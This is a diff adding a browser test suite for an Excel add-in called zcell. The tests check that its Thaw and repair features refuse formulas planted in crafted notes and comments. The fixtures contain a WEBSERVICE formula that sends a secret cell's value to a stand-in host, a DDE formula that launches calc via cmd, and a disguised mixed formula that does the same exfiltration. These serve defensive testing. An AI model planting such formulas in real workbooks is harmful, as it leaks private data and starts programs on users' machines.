@@ -1,0 +1,195 @@
+/**
+ * The built pane against workbooks crafted as an attacker would (fake host, chromium): notes and
+ * comments that name formulas of someone else's, a #NAME? formula that mixes ZC with other functions,
+ * settings that are malformed, of the wrong type, huge or unphysical, thousands of stored models, a
+ * whole-column reference, a recalculation that fails. Each scenario asserts what is written to the
+ * sheet (nothing hostile, nothing outside the selection) and that the pane stays usable.
+ */
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { browserAvailable, fakeState, openPane, selectCells, startPageHost, type PageHost, type PanePage } from "./pageHost.js";
+
+type Cells = Record<string, { formula?: string; value?: unknown }>;
+
+/** A note zcell never wrote, made to look like one. */
+const crafted = (formula: string) => `Frozen by zcell 0.1.0 on 2026-12-01.\nFormula: ${formula}\nModel: P18-BAO\nValue computed under that cosmology.`;
+const exfiltrate = '=WEBSERVICE("https://example.invalid/?d="&ENCODEURL(Secrets!A1))';
+const dde = "=cmd|' /C calc'!A0";
+
+/** An invented sheet: two plain cells with crafted annotations, one frozen cell zcell froze, one that would spill. */
+const frozenSheet = (): Record<string, Cells> => ({
+  Sheet1: { A2: { value: 0.5 }, B2: { value: 2919.6 }, C2: { value: 17 }, D2: { value: 4 }, E2: { value: 9 }, F9: { value: "outside" } },
+  Secrets: { A1: { value: "private" } },
+});
+const annotations = [
+  { address: "'Sheet1'!B2", text: crafted('"=ZC.DIST_LUM(A2,\\n \\"P18-BAO; H0=73\\")"') },
+  { address: "'Sheet1'!C2", text: crafted(exfiltrate) },
+  { address: "'Sheet1'!D2", text: crafted(dde) },
+  { address: "'Sheet1'!E2", text: crafted("=ZC.DIST_LUM(A2:A9)") },
+];
+
+describe.runIf(browserAvailable())("a crafted shared workbook against the pane", () => {
+  let host: PageHost;
+  beforeAll(async () => {
+    host = await startPageHost();
+  });
+  afterAll(async () => {
+    await host?.close();
+  });
+
+  for (const [carrier, excelApi] of [["notes", "1.18"], ["comments", "1.10"]] as const) {
+    test(`Thaw restores only ZC formulas from ${carrier} (ExcelApi ${excelApi}), after one confirmation, only in the selection`, async () => {
+      const page = await openPane(host, { settings: {}, sheets: frozenSheet(), selection: "Sheet1!B2:E2", excelApi, [carrier]: annotations });
+      await page.getByRole("tab", { name: "Freeze" }).click();
+      await page.locator("#thaw").click();
+      await expect.poll(() => page.locator("#thaw-confirm-text").textContent()).toBe("Restore 1 ZC formula in the selection? 3 cells not restored, listed below.");
+      expect(await page.locator("#thaw-preview li").allTextContents()).toEqual(['B2: =ZC.DIST_LUM(A2,\n "P18-BAO; H0=73")']);
+      expect(await page.locator("#thaw-refused li").allTextContents()).toEqual([
+        "C2: not restored: it calls WEBSERVICE, which is not a zcell function",
+        "D2: not restored: it holds a DDE link (|), which can start another program",
+        "E2: not restored: it could spill over other cells (A2:A9); enter it yourself where there is room",
+      ]);
+      // nothing is written before the confirmation
+      expect(((await fakeState(page, "sheets.Sheet1")) as Cells).B2).toEqual({ value: 2919.6 });
+      await page.locator("#thaw-go").click();
+      await expect.poll(() => page.locator("#thaw-status").textContent()).toMatch(/^Thawed 1 cell: the ZC formulas are back/);
+      const after = (await fakeState(page, "sheets")) as Record<string, Cells>;
+      expect(after.Sheet1).toEqual({
+        A2: { value: 0.5 },
+        B2: { formula: '=ZC.DIST_LUM(A2,\n "P18-BAO; H0=73")', value: 0 },
+        C2: { value: 17 },
+        D2: { value: 4 },
+        E2: { value: 9 },
+        F9: { value: "outside" },
+      });
+      expect(after.Secrets).toEqual({ A1: { value: "private" } });
+      // the refused cells keep their annotations: the person can read what they claimed
+      const left = (await fakeState(page, carrier)) as { address: string }[];
+      expect(left.map((n) => n.address)).toEqual(["'Sheet1'!C2", "'Sheet1'!D2", "'Sheet1'!E2"]);
+      expect(page.errors).toEqual([]);
+      await page.close();
+    });
+  }
+
+  test("Cancel on the Thaw confirmation writes nothing", async () => {
+    const page = await openPane(host, { settings: {}, sheets: frozenSheet(), selection: "Sheet1!B2", notes: annotations });
+    await page.getByRole("tab", { name: "Freeze" }).click();
+    await page.locator("#thaw").click();
+    await page.locator("#thaw-cancel").click();
+    await expect.poll(() => page.locator("#thaw-status").textContent()).toBe("Nothing thawed.");
+    expect((await fakeState(page, "sheets")) as object).toEqual(frozenSheet());
+    await page.close();
+  });
+
+  test("the repair banner re-enters only pure ZC formulas and lists the mixed one by address", async () => {
+    const mixed = '=IF(ISERROR(_xldudf_ZC_VERSION()),_xldudf_ZC_VERSION(),WEBSERVICE("https://example.invalid/?d="&Secrets!A1))';
+    const sheets = {
+      Catalogue: { A3: { value: 0.5 }, B3: { formula: "=_xldudf_ZC_DIST_LUM(A3)", value: "#NAME?" } },
+      Hidden: { Z99: { formula: mixed, value: "#NAME?" } },
+      Secrets: { A1: { value: "private" } },
+    };
+    const page = await openPane(host, { settings: {}, sheets, selection: "Catalogue!A3" });
+    await expect.poll(() => page.locator("#repair").isVisible()).toBe(true);
+    expect(await page.locator("#repair-text").textContent()).toMatch(/1 formula mixes ZC with other functions or references zcell does not enter for you; check and re-enter it yourself:/);
+    expect(await page.locator("#repair-others li").allTextContents()).toEqual(["Hidden!Z99"]);
+    expect(await page.locator("#repair-go").textContent()).toBe("Enter 1 formula again");
+    await page.locator("#repair-go").click();
+    await expect.poll(() => page.locator("#repair-status").textContent()).toMatch(/^Entered 1 formula again on Catalogue \(1\)/);
+    const after = (await fakeState(page, "sheets")) as Record<string, Cells>;
+    expect(after.Catalogue.B3.formula).toBe("=ZC.DIST_LUM(A3)");
+    expect(after.Hidden.Z99).toEqual({ formula: mixed, value: "#NAME?" });
+    await page.close();
+  });
+
+  // what the settings hold | what the warning says (a fragment)
+  const badSettings: [string, Record<string, unknown>, RegExp][] = [
+    ["an unphysical model", { "zcell.activeModel": "H0=70; Om=0; OL=2" }, /no big bang/],
+    ["malformed spec text", { "zcell.activeModel": '{"H0":' }, /could not be read/],
+    ["a number", { "zcell.activeModel": 42 }, /not text/],
+    ["an object", { "zcell.activeModel": { H0: 70 } }, /not text/],
+    ["a 2 MB string", { "zcell.activeModel": "H".repeat(2_000_000) }, /longer than 500 characters/],
+    ["models that are not a map", { "zcell.workbookModels": "TEAM=W9-ALL" }, /could not be read \(not a list of names and specs\)/],
+    ["models of the wrong types", { "zcell.workbookModels": { TEAM: 7, "bad name": "W9-ALL", HUGE: "H0=1;".repeat(1000) } }, /TEAM: its spec is not text/],
+  ];
+  for (const [what, settings, warning] of badSettings) {
+    test(`settings holding ${what}: the pane starts, says what is wrong, and a valid model can be applied`, async () => {
+      const page = await openPane(host, { settings, sheets: { Sheet1: { A1: { formula: "=ZC.AGE()", value: 13.8 } } }, selection: "Sheet1!A1" });
+      await expect.poll(() => page.locator("#settings-warning").textContent()).toMatch(warning);
+      expect(await page.locator("#model-badge").textContent()).toBe("Workbook model: P18-BAO");
+      expect(await page.locator("#preset option").count()).toBeGreaterThan(3);
+      await page.selectOption("#preset", "W9-ALL");
+      await page.locator("#apply").click();
+      await expect.poll(() => page.locator("#apply-status").textContent()).toBe("Applied W9-ALL; 1 formula recalculated.");
+      expect(((await fakeState(page, "saved")) as Record<string, unknown>)["zcell.activeModel"]).toBe("W9-ALL");
+      for (const tab of ["This cell", "Tables", "Freeze"]) {
+        await page.getByRole("tab", { name: tab }).click();
+        expect(await page.getByRole("tab", { name: tab }).getAttribute("aria-selected")).toBe("true");
+      }
+      expect(page.errors).toEqual([]);
+      await page.close();
+    });
+  }
+
+  test("30,000 stored models: the pane reads the first 100, says so, and starts without a long task of their own", async () => {
+    const observeLongTasks = () => {
+      const w = window as unknown as { __longTasks: number[] };
+      w.__longTasks = [];
+      new PerformanceObserver((list) => list.getEntries().forEach((e) => w.__longTasks.push(e.duration))).observe({ type: "longtask" });
+    };
+    const longestTask = async (page: PanePage) => {
+      await page.locator("#apply").waitFor();
+      await new Promise((r) => setTimeout(r, 300));
+      return page.evaluate(() => Math.max(0, ...(window as unknown as { __longTasks: number[] }).__longTasks));
+    };
+    const models: Record<string, string> = {};
+    for (let i = 0; i < 30_000; i++) models[`M${i}`] = `P18-BAO; H0=${(60 + i / 1000).toFixed(3)}`;
+    const pane = await openPane(host, { settings: { "zcell.workbookModels": models }, sheets: {} }, true, observeLongTasks);
+    await expect.poll(() => pane.locator("#settings-warning").textContent()).toMatch(/only the first 100 workbook models are read; 29900 more are left out/);
+    expect(await pane.locator("#preset optgroup[label='Defined in this workbook'] option").count()).toBe(100);
+    const withModels = await longestTask(pane);
+    await pane.close();
+    // the same pane with no stored models: its start is one task of the browser's own (parsing, styles)
+    const plain = await openPane(host, { settings: {}, sheets: {} }, true, observeLongTasks);
+    const without = await longestTask(plain);
+    await plain.close();
+    console.log(`longest task while the pane starts: ${withModels.toFixed(0)} ms with 30,000 stored models, ${without.toFixed(0)} ms with none`);
+    // before the cap: one 16 s task and 20 s to start (the review's measurement). What remains with the
+    // models is the page building the 30,000-entry settings object itself (~100 ms here, standing for
+    // Office reading the settings) and reading the first 100 (a few ms).
+    expect(withModels).toBeLessThan(without + 400);
+    expect(withModels).toBeLessThan(1000);
+  });
+
+  test("the inspector does not read a whole-column reference, and says so", async () => {
+    const sheets = { Sheet1: { A1: { value: 0.5 }, B1: { formula: "=ZC.DIST_LUM(A:A)", value: 2919.6 } } };
+    const page = await openPane(host, { settings: {}, sheets, selection: "Sheet1!B1" });
+    await page.getByRole("tab", { name: "This cell" }).click();
+    await expect.poll(() => page.locator("#cell-explanation").textContent()).toMatch(/a range of 1,048,576 cells, not read \(the inspector reads at most 100,000\)/);
+    const reads = (await fakeState(page, "reads")) as number[];
+    expect(Math.max(0, ...reads)).toBeLessThanOrEqual(100_000);
+    await page.close();
+  });
+
+  test("Apply says exactly what happened when the model was stored but Excel did not recalculate", async () => {
+    const page = await openPane(host, { settings: {}, sheets: {}, calculateFails: true });
+    await page.selectOption("#preset", "W9-ALL");
+    await page.locator("#apply").click();
+    await expect.poll(() => page.locator("#apply-status").textContent()).toMatch(/^Applied W9-ALL: it is stored in the workbook, but Excel did not recalculate \(The request could not be completed \(simulated\)\.\)/);
+    expect(((await fakeState(page, "saved")) as Record<string, unknown>)["zcell.activeModel"]).toBe("W9-ALL");
+    expect(await page.locator("#model-badge").textContent()).toBe("Workbook model: W9-ALL");
+    await page.close();
+  });
+
+  test("a long repair scan can be stopped, and the pane says which sheets were not looked at", async () => {
+    const big: Cells = {};
+    for (let r = 1; r <= 3000; r++) big[`A${r}`] = { value: r };
+    big.XFD3000 = { value: "far" };
+    const page = await openPane(host, { settings: {}, sheets: { Big: big, After: { A1: { formula: "=ZC.AGE()", value: "#NAME?" } } }, syncDelayMs: 150 });
+    await expect.poll(() => page.locator("#repair-cancel").isVisible(), { timeout: 20_000 }).toBe(true);
+    await page.locator("#repair-cancel").click();
+    await expect.poll(() => page.locator("#repair-text").textContent(), { timeout: 20_000 }).toMatch(/Not every cell was looked at: Big (scanned rows 1–\d+ of A1:XFD3000 only|not scanned) \(stopped\); After not scanned \(stopped\)\./);
+    await selectCells(page, "After!A1");
+    expect(page.errors).toEqual([]);
+    await page.close();
+  });
+});
+
